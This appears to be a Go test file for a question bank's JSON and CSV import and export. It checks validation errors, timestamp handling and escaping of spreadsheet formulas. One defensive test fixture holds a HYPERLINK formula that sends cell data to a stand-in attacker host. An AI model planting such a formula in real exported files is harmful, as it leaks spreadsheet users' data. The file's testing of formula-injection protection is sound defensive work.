package question

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"
)

// storedQuestions looks like an export from a live database: ids, nanosecond
// timestamps, authors, an admin's edit and text that stresses CSV quoting.
func storedQuestions(t *testing.T) []Question {
	t.Helper()
	bank, err := Bank()
	if err != nil {
		t.Fatal(err)
	}
	created := time.Date(2025, 9, 7, 14, 30, 0, 123456789, time.UTC)
	for i := range bank {
		bank[i].ID = "q-" + bank[i].SeedKey
		bank[i].CreatedAt = created
		bank[i].UpdatedAt = created
	}
	edited := created.Add(36*time.Hour + 17*time.Nanosecond)
	bank[5].Text = `An "edited", tricky; question, with quotes —  and unicode é?`
	bank[5].Tip = "Line one.\nLine two,\twith a tab."
	bank[5].UpdatedAt = edited
	bank[5].UpdatedBy = "admin@example.com"
	return append(bank, Question{
		ID:       "admin-1",
		Text:     "=SUM(A1) is not a formula here?",
		Subtag:   Leadership,
		MainTags: []string{"pa", "medical"},
		Points: []Point{
			{Text: `Say why, in "one" line; then stop.`, Cues: []string{"say why", "in one line", "=sum of it"}},
			{Text: "A point without cues."},
		},
		Traps:     []Point{{Text: "=Blaming the team", Cues: []string{"their fault"}}},
		CreatedAt: edited,
		UpdatedAt: edited,
		CreatedBy: "admin@example.com",
		UpdatedBy: "admin@example.com",
	})
}

func TestRoundTrip(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		format Format
		data   func(t *testing.T) []Question
	}{
		{"json bank", FormatJSON, func(t *testing.T) []Question { qs, _ := Bank(); return qs }},
		{"csv bank", FormatCSV, func(t *testing.T) []Question { qs, _ := Bank(); return qs }},
		{"json stored", FormatJSON, storedQuestions},
		{"csv stored", FormatCSV, storedQuestions},
		{"json empty", FormatJSON, func(t *testing.T) []Question { return []Question{} }},
		{"csv empty", FormatCSV, func(t *testing.T) []Question { return nil }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := tt.data(t)
			var buf bytes.Buffer
			if err := Encode(&buf, tt.format, want); err != nil {
				t.Fatal(err)
			}
			got, err := Decode(&buf, tt.format)
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != len(want) {
				t.Fatalf("got %d questions, want %d", len(got), len(want))
			}
			for i := range want {
				if !reflect.DeepEqual(got[i], want[i]) {
					t.Fatalf("row %d differs:\n got %#v\nwant %#v", i+1, got[i], want[i])
				}
			}
		})
	}
}

func TestEncodeConvertsTimesToUTC(t *testing.T) {
	t.Parallel()
	zone := time.FixedZone("UTC+2", 2*60*60)
	in := []Question{{ID: "x", Text: "Why?", MainTags: []string{"dental"}, CreatedAt: time.Date(2025, 1, 1, 10, 0, 0, 0, zone)}}
	for _, f := range []Format{FormatJSON, FormatCSV} {
		t.Run(string(f), func(t *testing.T) {
			var buf bytes.Buffer
			if err := Encode(&buf, f, in); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(buf.String(), "2025-01-01T08:00:00Z") {
				t.Fatalf("output lacks the UTC timestamp:\n%s", buf.String())
			}
		})
	}
}

func TestDecodeNormalizes(t *testing.T) {
	t.Parallel()
	csvIn := "Text,SUBTAG,mainTags,big3,big3Order\n" +
		"  Why pharmacy?  ,ethical, Pharmacy ; PHARMACY;medical ,TRUE,2\n"
	got, err := Decode(strings.NewReader(csvIn), FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	want := Question{Text: "Why pharmacy?", Subtag: Ethical, MainTags: []string{"pharmacy", "medical"}, Big3: true, Big3Order: 2}
	if len(got) != 1 || !reflect.DeepEqual(got[0], want) {
		t.Fatalf("got %#v, want %#v", got, want)
	}
}

func TestDecodeAcceptsBareJSONArray(t *testing.T) {
	t.Parallel()
	got, err := Decode(strings.NewReader(` [{"text":"Why OT?","mainTags":["ot"]}]`), FormatJSON)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Text != "Why OT?" {
		t.Fatalf("got %#v", got)
	}
}

func TestDecodeReportsEveryBadRow(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		format Format
		in     string
		want   []RowError
	}{
		{
			name:   "csv one bad row among good ones",
			format: FormatCSV,
			in: "text,subtag,mainTags\n" +
				"Good one?,Ethical,dental\n" +
				"Bad one?,Ethics,dental\n" +
				"Good two?,,medical\n",
			want: []RowError{{Row: 2, Line: 3, Field: "subtag", Message: `"Ethics" is not one of Ethical, Behavioral, Teamwork, Leadership, Communication (or empty)`}},
		},
		{
			name:   "csv several problems and a quoted multi-line field shifting lines",
			format: FormatCSV,
			in: "text,tip,big3,big3Order,mainTags,createdAt\n" +
				"\"Two\nlines?\",,false,0,dental,\n" +
				",,maybe,x,nursing;dental,yesterday\n" +
				"Order without big3?,,false,2,pt,\n" +
				"Big3 without order?,,true,,ot,\n" +
				"Too,few\n",
			want: []RowError{
				{Row: 2, Line: 4, Field: "text", Message: "is empty"},
				{Row: 2, Line: 4, Field: "big3", Message: `"maybe" is not true or false`},
				{Row: 2, Line: 4, Field: "big3Order", Message: `"x" is not a whole number`},
				{Row: 2, Line: 4, Field: "mainTags", Message: `"nursing" is not a profession; use dental, medical, pt, pa, pharmacy, ot, veterinary`},
				{Row: 2, Line: 4, Field: "createdAt", Message: `"yesterday" is not an RFC 3339 timestamp such as 2025-09-07T14:30:00Z`},
				{Row: 3, Line: 5, Field: "big3Order", Message: "is 2 but only Big 3 questions have an order; set big3 to true or big3Order to 0"},
				{Row: 4, Line: 6, Field: "big3Order", Message: "is 0 but a Big 3 question needs 1, 2 or 3"},
				{Row: 5, Line: 7, Message: "has 2 fields but the header has 6"},
			},
		},
		{
			name:   "json rows",
			format: FormatJSON,
			in: `{"questions": [
				{"text": "Fine?", "mainTags": ["vet", "veterinary"]},
				{"text": "Typed wrong?", "big3": "yes", "mainTags": ["dental"]},
				{"text": "Unknown field?", "mainTag": ["dental"]},
				42,
				{"text": "No tags?", "mainTags": [], "tip": "` + strings.Repeat("x", MaxTipLen+1) + `"},
				{"text": "Late?", "mainTags": ["pa"], "createdAt": "2025-02-01T00:00:00Z", "updatedAt": "2025-01-01T00:00:00Z"}
			]}`,
			want: []RowError{
				{Row: 1, Field: "mainTags", Message: `"vet" is not a profession; use dental, medical, pt, pa, pharmacy, ot, veterinary`},
				{Row: 2, Field: "big3", Message: "expected true or false, found a JSON string"},
				{Row: 3, Message: `unknown field "mainTag"`},
				{Row: 4, Message: "expected a question object, found a JSON number"},
				{Row: 5, Field: "tip", Message: "is 601 characters, more than the limit of 600"},
				{Row: 5, Field: "mainTags", Message: "is empty; list at least one of dental, medical, pt, pa, pharmacy, ot, veterinary"},
				{Row: 6, Field: "updatedAt", Message: "2025-01-01T00:00:00Z is before createdAt 2025-02-01T00:00:00Z"},
			},
		},
		{
			name:   "json conflicts between rows",
			format: FormatJSON,
			in: `[
				{"id": "a", "seedKey": "k", "text": "Same?", "mainTags": ["dental", "pa"], "big3": true, "big3Order": 1},
				{"id": "a", "seedKey": "k", "text": "same? ", "mainTags": ["pa"], "big3": true, "big3Order": 1},
				{"seedKey": "Bad Key", "text": "Same?", "mainTags": ["medical"]}
			]`,
			want: []RowError{
				{Row: 2, Field: "id", Message: `"a" is also used by row 1`},
				{Row: 2, Field: "seedKey", Message: `"k" is also used by row 1`},
				{Row: 2, Field: "text", Message: "duplicates row 1 for profession pa"},
				{Row: 2, Field: "big3Order", Message: "row 1 is already Big 3 number 1 for profession pa"},
				{Row: 3, Field: "seedKey", Message: `"Bad Key" must be lower-case letters and digits separated by single hyphens, at most 100 characters`},
			},
		},
		{
			name:   "json points and traps",
			format: FormatJSON,
			in: `[{"text": "Why?", "mainTags": ["ot"],
				"points": [{"text": "Say why."}, {"text": "", "cues": ["orphan cue"]}, {"text": "Cue with a semicolon.", "cues": ["a; b", "one two three four five six seven"]}],
				"traps": [{"text": "1"}, {"text": "2"}, {"text": "3"}, {"text": "4 [cues: x]"}]}]`,
			want: []RowError{
				{Row: 1, Field: "points", Message: "2 has cues but no text"},
				{Row: 1, Field: "points", Message: `3: cue "a; b" must not contain ; [ or ]`},
				{Row: 1, Field: "points", Message: `3: cue "one two three four five six seven" has more than 6 words; a cue is a short phrase`},
				{Row: 1, Field: "traps", Message: "has 4, more than the limit of 3"},
				{Row: 1, Field: "traps", Message: `4 must not contain "[cues:"`},
			},
		},
		{
			name:   "control characters",
			format: FormatJSON,
			in:     `[{"text": "Bell\u0007?", "mainTags": ["ot"], "createdBy": "a\nb"}]`,
			want: []RowError{
				{Row: 1, Field: "text", Message: "contains a control character"},
				{Row: 1, Field: "createdBy", Message: "contains a control character"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Decode(strings.NewReader(tt.in), tt.format)
			if got != nil {
				t.Errorf("got %d questions alongside an error, want none", len(got))
			}
			var rowsErr *InvalidRowsError
			if !errors.As(err, &rowsErr) {
				t.Fatalf("err = %v, want *InvalidRowsError", err)
			}
			if !reflect.DeepEqual(rowsErr.Rows, tt.want) {
				t.Errorf("rows:\n got %+v\nwant %+v", rowsErr.Rows, tt.want)
			}
			if !strings.HasPrefix(err.Error(), "question: "+string(tt.format)+" import has ") {
				t.Errorf("message %q", err.Error())
			}
		})
	}
}

func TestInvalidRowsErrorMessage(t *testing.T) {
	t.Parallel()
	in := "text,mainTags\nFine?,dental\nBroken?,dentist\n"
	_, err := Decode(strings.NewReader(in), FormatCSV)
	want := "question: csv import has 1 invalid row:\n" +
		`  row 2 (line 3): mainTags: "dentist" is not a profession; use dental, medical, pt, pa, pharmacy, ot, veterinary`
	if err == nil || err.Error() != want {
		t.Fatalf("err = %v\nwant %s", err, want)
	}
}

func TestDecodeFileErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		format Format
		in     string
		want   string
	}{
		{"empty csv", FormatCSV, "", "question: decode csv: file is empty"},
		{"unknown column", FormatCSV, "text,mainTags,colour\n", `question: decode csv: line 1: unknown column "colour"`},
		{"duplicate column", FormatCSV, "text,mainTags,Text\n", `question: decode csv: line 1: column "text" appears twice`},
		{"missing column", FormatCSV, "text\nWhy?\n", `question: decode csv: line 1: missing required column "mainTags"`},
		{"bad quoting", FormatCSV, "text,mainTags\n\"Why?\"x,dental\n", "question: decode csv: "},
		{"empty json", FormatJSON, "  ", "question: decode json: file is empty"},
		{"json scalar", FormatJSON, `"questions"`, `question: decode json: expected an object with a "questions" array`},
		{"json without questions", FormatJSON, `{}`, `question: decode json: missing "questions" array`},
		{"json unknown top-level key", FormatJSON, `{"questions": [], "extra": 1}`, `question: decode json: unknown field "extra"`},
		{"json syntax", FormatJSON, `{"questions": [}`, "question: decode json: invalid character"},
		{"json trailing data", FormatJSON, `[] []`, "question: decode json: unexpected data after the questions"},
		{"unknown format", Format("xml"), "", `question: decode: unknown format "xml"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Decode(strings.NewReader(tt.in), tt.format)
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Fatalf("err = %v, want prefix %q", err, tt.want)
			}
			if got != nil {
				t.Errorf("got questions alongside an error")
			}
		})
	}
}

func TestCSVAcceptsExcelBOM(t *testing.T) {
	t.Parallel()
	got, err := Decode(strings.NewReader("\uFEFFtext,mainTags\nWhy?,dental\n"), FormatCSV)
	if err != nil || len(got) != 1 {
		t.Fatalf("got %v, %v", got, err)
	}
}

func TestParseFormat(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in      string
		want    Format
		wantErr bool
	}{
		{"json", FormatJSON, false},
		{" CSV ", FormatCSV, false},
		{"xlsx", "", true},
	}
	for _, tt := range tests {
		got, err := ParseFormat(tt.in)
		if got != tt.want || (err != nil) != tt.wantErr {
			t.Errorf("ParseFormat(%q) = %q, %v", tt.in, got, err)
		}
	}
}

func TestEncodeUnknownFormat(t *testing.T) {
	t.Parallel()
	if err := Encode(&bytes.Buffer{}, "xml", nil); err == nil {
		t.Fatal("want an error")
	}
}

// The question-bank export wrote a text beginning with "=" as it was, which
// a spreadsheet runs as a formula. Such cells now go out behind a quote and
// come back without it; a typed leading apostrophe survives both ways.
func TestCSVExportCarriesFormulasAsText(t *testing.T) {
	t.Parallel()
	q := storedQuestions(t)[0]
	q.Big3, q.Big3Order = false, 0 // a station is never one of the Big 3
	q.Scenario = "-A patient asks for something."
	q.Text = `=HYPERLINK("http://evil.example/?"&A1,"Why?")`
	q.Tip = "'Tis the season: @mention the ward."
	q.FollowUps = []string{"+1 more?", "=2nd line is no cell start"}
	var buf bytes.Buffer
	if err := Encode(&buf, FormatCSV, []Question{q}); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := map[string]string{}
	for i, c := range columns {
		row[c] = records[1][i]
		if cell := records[1][i]; cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts a formula: %q", c, cell)
		}
	}
	if row["text"] != "'"+q.Text || row["scenario"] != "'"+q.Scenario || row["tip"] != "'"+q.Tip ||
		row["followUps"] != "'+1 more?\n=2nd line is no cell start" {
		t.Fatalf("cells %q", row)
	}
	back, err := Decode(&buf, FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, []Question{q}) {
		t.Fatalf("round trip:\n got %#v\nwant %#v", back[0], q)
	}
}

// A hand-made or spreadsheet-saved file may hold such quotes too: an import
// removes only a quote in front of a formula character.
func TestCSVImportRemovesOnlyTheFormulaQuote(t *testing.T) {
	t.Parallel()
	qs, err := Decode(strings.NewReader("text,tip,mainTags\n\"'=1+1, or two?\",'Tis a tip.,dental\n"), FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	if qs[0].Text != "=1+1, or two?" || qs[0].Tip != "'Tis a tip." {
		t.Fatalf("text %q, tip %q", qs[0].Text, qs[0].Tip)
	}
}
